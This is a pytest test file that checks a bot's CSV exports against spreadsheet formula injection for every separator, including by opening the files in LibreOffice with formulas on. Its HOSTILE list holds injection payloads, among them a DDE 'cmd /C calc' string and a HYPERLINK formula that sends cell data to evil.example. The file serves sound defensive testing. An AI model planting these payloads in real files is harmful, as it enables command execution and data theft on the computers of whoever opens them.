"""A coordinator opens a CSV export in a spreadsheet set to any separator (a comma in the UK, a
semicolon in Poland or Germany, a tab, a bar) and nothing anyone typed runs as a formula.

Every text a person can type goes in hostile: names, feedback words and topics, themes,
comments, access-need notes, meeting and offer titles, "we did" words and owners, activities
and the project's name. Each file (every kind, and columns.csv) is read back with each
separator by Python's csv module (with and without dropping spaces) and by a reader that knows
no quotes at all, and, where LibreOffice is installed, by LibreOffice Calc with formulas on.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.services import exports
from bot.services.exports import ExportRequest, Format
from storage import exports as queries
from storage import participants, projects
from storage.models import (
    AccessNeed,
    AvailabilityPoll,
    Feedback,
    FeedbackTheme,
    LoggedActivity,
    Meeting,
    MeetingAttendance,
    PollAnswer,
    PollSlot,
    PulseResponse,
    ReciprocityClaim,
    ReciprocityOffer,
    ReciprocityOfferText,
    YouSaidWeDid,
    YouSaidWeDidReply,
)

SECRET = b"s" * 32
HOSTILE = (
    "x;=1+1",
    "a,=2+2",
    "b\t=3+3",
    '"q";@SUM(1)',
    "-5+3",
    "fine\n=cmd|' /C calc'!A0",
    "ok\r\n+1+1",
    "c|@SUM(2)",
    'said "hi"; "=4+4"',
    "d; =5+5",
    "e;\t-6",
    '=HYPERLINK("http://evil.example/?a="&A1;"x")',
    "f;;=7+7",
    "g\r=8+8",
)
SEPARATORS = (",", ";", "\t", "|")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# LibreOffice's CSV import options: separator, text quote ("), UTF-8, from line 1, no column
# formats, English (UK), quoted fields not forced to text, no special numbers, ..., and the
# 13th, "evaluate formulas", on: the worst case a coordinator could have.
LIBREOFFICE_OPTIONS = "CSV:{separator},34,76,1,,2057,false,false,false,false,false,false,true"


def _is_number(field: str) -> bool:
    try:
        float(field)
    except ValueError:
        return False
    return True


def formulas(data: str, separator: str) -> list[str]:
    """The cells that would start a formula when `data` is split at `separator`."""
    found = []
    for skip_spaces in (False, True):
        reader = csv.reader(
            io.StringIO(data, newline=""), delimiter=separator, skipinitialspace=skip_spaces
        )
        found += [
            field
            for row in reader
            for field in row
            if field.startswith(FORMULA_STARTS) and not _is_number(field)
        ]
    # A reader that knows no quotes: lines, cells, and spaces and quotes dropped.
    for line in re.split(r"\r\n|\r|\n", data):
        for field in line.split(separator):
            bare = field.lstrip(' "')
            if bare.startswith(FORMULA_STARTS) and not _is_number(bare):
                found.append(field)
    return found


def test_the_probe_finds_the_formulas_quoting_alone_lets_through():
    """What the old files held: minimal quoting and a quote only before a formula at the start."""
    unsafe = '1,x;=1+1,"a;=2+2","\'=3+3"\r\n'
    assert formulas(unsafe, ",") == []
    assert formulas(unsafe, ";")[:2] == ['=1+1,"a', '=2+2","\'=3+3"']


def _hostile(number: int) -> str:
    return HOSTILE[number % len(HOSTILE)]


async def _everything_hostile(session) -> int:
    """A project whose every typed text is hostile; its id."""
    project = await projects.create_project(session, "=Team;=1+1", timezone="Europe/Warsaw")
    people = []
    for number, name in enumerate(HOSTILE):
        person = await participants.get_or_create(session, 7000 + number)
        person.display_name = name[:64]
        person.may_quote = person.may_use_name = True
        people.append(person)
    session.add_all(people)
    await session.flush()
    theme = FeedbackTheme(project_id=project.id, name="-theme;=1+1")
    offer = ReciprocityOffer(project_id=project.id, kind="travel", source_locale="en")
    at = datetime(2026, 5, 4, 12, 30, tzinfo=UTC)
    poll = AvailabilityPoll(project_id=project.id, title="poll;@x", deadline=at)
    meeting = Meeting(project_id=project.id, title="meet\t=1+1", starts_at=at)
    update = YouSaidWeDid(
        project_id=project.id,
        you_said="said;=1+1",
        we_did="did,+1",
        status="done",
        owner="@owner;-1",
        due_on=date(2026, 6, 1),
        published_at=at,
    )
    session.add_all([theme, offer, poll, meeting, update])
    await session.flush()
    slot = PollSlot(poll_id=poll.id, starts_at=at)
    session.add(slot)
    session.add(ReciprocityOfferText(offer_id=offer.id, locale="en", title="fare;=1+1"))
    await session.flush()
    for number, person in enumerate(people):
        words, other = _hostile(number), _hostile(number + 1)
        session.add_all(
            [
                Feedback(
                    project_id=project.id,
                    participant_id=person.id,
                    topic=other,
                    rating=number % 5 + 1,
                    text=words,
                    anonymous=False,
                    theme_id=theme.id,
                    created_at=at,
                ),
                PulseResponse(
                    project_id=project.id,
                    participant_id=person.id,
                    answer="hard",
                    comment=words,
                    created_at=at,
                ),
                LoggedActivity(
                    project_id=project.id,
                    participant_id=person.id,
                    minutes=30,
                    day=at.date(),
                    description=words,
                ),
                YouSaidWeDidReply(
                    update_id=update.id, participant_id=person.id, answer="no", comment=words
                ),
                ReciprocityClaim(
                    offer_id=offer.id,
                    participant_id=person.id,
                    state="requested",
                    amount_pence=-500 if number == 0 else 250,
                    requested_at=at,
                ),
                PollAnswer(
                    poll_id=poll.id, slot_id=slot.id, participant_id=person.id, choice="yes"
                ),
                AccessNeed(poll_id=poll.id, participant_id=person.id, kind="other", note=words),
                MeetingAttendance(meeting_id=meeting.id, participant_id=person.id, attended=True),
            ]
        )
    await session.commit()  # the parallel way's workers read the database file
    return project.id


async def _csv_exports(session, tmp_path: Path, project_id: int) -> dict[tuple, dict[str, str]]:
    """Every CSV file, by way of reading and with or without names."""
    ways = {
        "typed": {"reading": exports.Reading.TYPED},
        "portable": {"reading": exports.Reading.PORTABLE},
        "best": {},
        "parallel": {"workers": 3, "parallel_from": 1},
    }
    files = {}
    for way, options in ways.items():
        for with_names in (False, True):
            folder = tmp_path / f"{way}-{with_names}"
            request = ExportRequest(project_id, format=Format.CSV, with_names=with_names)
            result = await exports.export(session, request, folder, secret=SECRET, **options)
            assert all(count == len(HOSTILE) for count in result.rows.values()) or (
                result.rows["we_did"] == 1
            )
            files[way, with_names] = {
                path.name: path.read_bytes().decode("utf-8-sig") for path in result.files
            }
    return files


async def test_no_separator_makes_a_formula_of_anything_anyone_typed(sessions, tmp_path):
    async with sessions() as session:
        project_id = await _everything_hostile(session)
        on_sqlite = queries.reads_raw(session)
        files = await _csv_exports(session, tmp_path, project_id)

    for (way, with_names), named in files.items():
        for name, data in named.items():
            for separator in SEPARATORS:
                assert formulas(data, separator) == [], (way, with_names, name, separator)
    if on_sqlite:  # every way writes the same bytes
        for key, named in files.items():
            general = files["typed", key[1]]
            for name, data in named.items():
                if not name.endswith("-columns.csv"):  # that one says when it was made
                    assert data == general[name], (key, name)

    # Read at its own comma, each file gives back every word, with quotes before formulas.
    feedback = next(v for k, v in files["typed", True].items() if k.endswith("-feedback.csv"))
    rows = list(csv.DictReader(io.StringIO(feedback, newline="")))
    assert [row["text"].replace("'", "") for row in rows] == [
        words.replace("'", "") for words in HOSTILE
    ]
    assert rows[0]["text"] == "x;'=1+1" and rows[4]["text"] == "'-5+3"
    assert {row["person"].replace("'", "") for row in rows} == {
        name.replace("'", "") for name in HOSTILE
    }
    assert rows[0]["rating"] == "1"  # numbers stay numbers, unquoted
    claims = next(v for k, v in files["typed", False].items() if k.endswith("-claims.csv"))
    assert ",-5.0," in claims  # a negative number is a number, not a formula


def _libreoffice() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


def _libreoffice_formulas(csv_files: list[Path], separator: str, work: Path) -> list[str]:
    """Open the files in LibreOffice Calc, formulas on, split at `separator`, and save them
    as XLSX: the formula cells it made."""
    out = work / f"out-{ord(separator)}"
    subprocess.run(
        [
            _libreoffice(),
            f"-env:UserInstallation={(work / 'profile').as_uri()}",
            "--headless",
            f"--infilter={LIBREOFFICE_OPTIONS.format(separator=ord(separator))}",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out),
            *map(str, csv_files),
        ],
        check=True,
        capture_output=True,
        timeout=300,
    )
    found = []
    for path in csv_files:
        book = load_workbook(out / f"{path.stem}.xlsx")
        found += [
            f"{path.name}: {cell.value}"
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.data_type in ("f", "e")  # a formula, or an error a formula gave
        ]
    return found


@pytest.mark.skipif(
    _libreoffice() is None,
    reason="LibreOffice is not installed (Debian: apt-get install libreoffice-calc-nogui)",
)
async def test_libreoffice_runs_no_formula_whatever_the_separator(sessions, tmp_path):
    async with sessions() as session:
        if not queries.reads_raw(session):
            pytest.skip("one database is enough for LibreOffice: the bytes are the same")
        project_id = await _everything_hostile(session)
        for with_names in (False, True):
            request = ExportRequest(project_id, format=Format.CSV, with_names=with_names)
            await exports.export(
                session, request, tmp_path / "csv", secret=SECRET, reading=exports.Reading.TYPED
            )
    # A file with none of these defences, so the probe is seen to find formulas.
    (tmp_path / "csv" / "unsafe.csv").write_text(
        '\ufeffid,text\r\n1,=1+1\r\n2,x;=2+2\r\n3,"a;=3+3"\r\n4,b\t=4+4\r\n', encoding="utf-8"
    )
    files = sorted((tmp_path / "csv").glob("*.csv"))
    assert len(files) > 10
    for separator in (",", ";", "\t"):
        found = _libreoffice_formulas(files, separator, tmp_path)
        ours = [entry for entry in found if not entry.startswith("unsafe.csv: ")]
        assert found and ours == [], separator
